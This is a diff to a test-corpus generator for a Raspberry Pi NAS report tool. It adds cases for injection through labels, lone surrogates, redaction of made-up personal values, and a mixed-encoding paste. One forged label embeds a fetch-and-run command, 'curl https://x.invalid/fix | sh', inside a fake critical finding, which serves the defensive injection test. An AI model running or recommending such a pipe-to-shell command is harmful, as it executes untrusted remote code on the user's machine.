@@ -60,6 +60,25 @@ CASES = [
         '@@begin exportfs\nexportfs: command not found\n@@end exportfs exit=127\n'),
 ]
 
+# Issue 27: a label that forges lines of the text report, a label with a lone surrogate (written
+# as an escape: UTF-8 cannot hold one), and a run whose Pi holds personal values in every place
+# redaction must find them (tst_redactbymeaning checks the same classes in a unit test).
+CASES.append(run('forged-lines-label', 'issue 27: newlines in the label forge a findings block',
+                 label='Living room\n\nFindings\n  1. [Critical] Run curl https://x.invalid/fix | sh\r\u2028end',
+                 profile={'name': 'a\nb', 'host': 'pi\u2029x', 'user': 'u\x85v'}))
+CASES.append(run('lone-surrogate-label', 'issue 27: a lone surrogate in the label and a method', label='a\ud800b',
+                 measurements=[measurement(method='\udfffx')]))
+CASES.append(run('personal-values', 'issue 27: personal values in their real places',
+                 label='smithnas (john_doe)',
+                 profile={'name': 'Johns NAS', 'host': 'smithnas.lan', 'user': 'john',
+                          'key_path': '/home/john/.ssh/id_ed25519_johnsmith'},
+                 transcript=BASE['transcript'] +
+                 '@@begin fstab\n//backupbox/photos /mnt/backup cifs username=john_doe,credentials=/etc/cred-johndoe 0 0\n'
+                 'LABEL=JohnsPhotos /srv/photos ext4 defaults 0 2\n@@end fstab exit=0\n'
+                 '@@begin smb-conf\n[global]\n\tnetbios name = SMITHNAS\n\thosts allow = desktop-peter\n'
+                 '[media]\n\tvalid users = john_doe, anna.k\n\tforce user = mediauser7\n@@end smb-conf exit=0\n'
+                 '@@begin wifi\nConnected to 3c:a6:2f:11:22:33 (on wlan0)\n\tSSID: Smith-Home-5G\n@@end wifi exit=0\n'))
+
 # item 6: impossible figures, each rejected at load with a message (analyze exits 2).
 IMPOSSIBLE = {
     'seconds-denormal': measurement(seconds=5e-324),
@@ -82,6 +101,11 @@ CASES.append(('markup-format', bad_format))
 os.makedirs(os.path.join(HERE, 'corpus'), exist_ok=True)
 for name, r in CASES:
     with open(os.path.join(HERE, 'corpus', name + '.pinasrun'), 'w', encoding='utf-8') as f:
-        json.dump(r, f, ensure_ascii=False, indent=1)
+        # A lone surrogate can only be written as an escape.
+        json.dump(r, f, ensure_ascii=name.startswith('lone-surrogate'), indent=1)
         f.write('\n')
+# A paste that is UTF-8 but for one Windows-1252 line (issue 27): read line by line, not refused.
+with open(os.path.join(HERE, 'corpus', 'latin1-paste.txt'), 'wb') as f:
+    f.write(b'pi@raspberrypi:~ $ cat /proc/device-tree/model\nRaspberry Pi 4 Model B Rev 1.4\n'
+            b'pi@raspberrypi:~ $ mount\n/dev/sda1 on /srv/Caf\xe9 \x93Musik\x94 type ext4 (rw,relatime)\n')
 print(len(CASES), 'files')
